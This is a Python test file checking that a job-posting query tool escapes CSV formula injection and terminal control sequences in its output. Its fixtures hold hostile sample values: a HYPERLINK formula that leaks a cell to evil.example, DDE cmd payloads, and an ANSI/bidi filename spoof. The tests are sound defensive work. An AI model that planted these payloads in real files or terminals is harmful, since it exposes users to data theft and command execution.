"""Output that is safe where it lands: CSV a spreadsheet opens, a table a terminal shows.

Crawled text reaches the warehouse verbatim (test_hostile_text), so `jobtrends query` makes it
safe on the way out: CSV cells a spreadsheet would run as a formula get a leading single quote
(OWASP's advice on CSV injection; `--raw` writes them as stored), and the table shows control
characters and bidi overrides as visible escapes instead of handing them to the terminal.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest
from reliability_helpers import (
    PYTHON,
    ROOT,
    ats_posting,
    run_cli,
    subprocess_env,
    write_config,
    write_landing,
)

from jobtrends.config import load_settings
from warehouse.query import format_rows, neutralise, visible

RUN = "20260402T030000Z-0000c5v1"
# company names as a hostile page could carry them
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Apply")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# The load strips a company's leading whitespace, so tab and CR starts come from SQL here.
WHITESPACE_SQL = "select chr(9) || '=1+1' as tab, chr(13) || '=1+1' as cr"
TERMINAL = "Acme\x1b[2J\x1b]0;owned\x07 \u202egnp.exe\u202c Ltd"


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from pipeline.load import process_landing

    root = tmp_path_factory.mktemp("safety")
    companies = [*FORMULAS, TERMINAL, "Plain Co"]
    records = [
        ats_posting(f"s{i}", "Data Scientist", "Python and SQL.", run_id=RUN, company=company)
        for i, company in enumerate(companies)
    ]
    write_landing(root / "data", RUN, records)
    path = write_config(root / "c.toml", root / "data")
    assert process_landing(load_settings(path)).postings_loaded == len(records)
    return path


SQL = "select company from postings order by source_id"


def test_csv_cells_that_start_a_formula_are_neutralised(config: Path) -> None:
    done = run_cli("query", "--config", str(config), "--format", "csv", SQL)
    assert done.returncode == 0, done.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(done.stdout))][1:]
    assert cells[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert cells[-1] == "Plain Co"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cells_that_start_with_tab_or_cr_are_neutralised(config: Path) -> None:
    # read as bytes: text mode would turn the CR into a newline
    done = subprocess.run(
        [PYTHON, "-c", "from jobtrends.cli import main; main()", "query", "--config", str(config)]
        + ["--format", "csv", WHITESPACE_SQL],
        cwd=ROOT,
        env=subprocess_env(),
        capture_output=True,
        timeout=240,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    assert rows[1] == ["'\t=1+1", "'\r=1+1"]  # the CR cell is quoted, so it stays one row


def test_raw_csv_writes_the_cells_as_stored(config: Path) -> None:
    done = run_cli("query", "--config", str(config), "--format", "csv", "--raw", SQL)
    assert done.returncode == 0, done.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(done.stdout, newline=""))][1:]
    assert cells[: len(FORMULAS)] == FORMULAS


def test_the_table_shows_control_characters_as_escapes(config: Path) -> None:
    done = run_cli(
        "query", "--config", str(config), "select company, chr(0) || 'x' as nul from postings"
    )
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert not [ch for ch in out if (ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) < 0xA0]
    assert "\u202e" not in out and "\u202c" not in out
    assert "Acme\\x1b[2J\\x1b]0;owned\\x07 \\u202egnp.exe\\u202c Ltd" in out
    assert "\\x00x" in out
    tabs = run_cli("query", "--config", str(config), WHITESPACE_SQL).stdout
    assert "\\x09=1+1" in tabs and "\\x0d=1+1" in tabs


def test_neutralise_and_visible_by_rule() -> None:
    assert [neutralise(v) for v in ["=1", "+1", "-1", "@a", "\t1", "\r1", "a=1", ""]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
        "a=1",
        "",
    ]
    assert [neutralise(v) for v in [-3, 2.5, None]] == [-3, 2.5, None]  # numbers are not formulas
    assert visible("a\x00b\x1bc\x7fd\x9be\u202ef\u200bg\nh") == (
        "a\\x00b\\x1bc\\x7fd\\x9be\\u202ef\\u200bg h"
    )
    assert visible("Zürich 東京 🤖 naïve") == "Zürich 東京 🤖 naïve"  # printable text untouched
    table = format_rows(["name\x1b"], [("x\u202ey",)], "table")
    assert "name\\x1b" in table and "x\\u202ey" in table and "\x1b" not in table
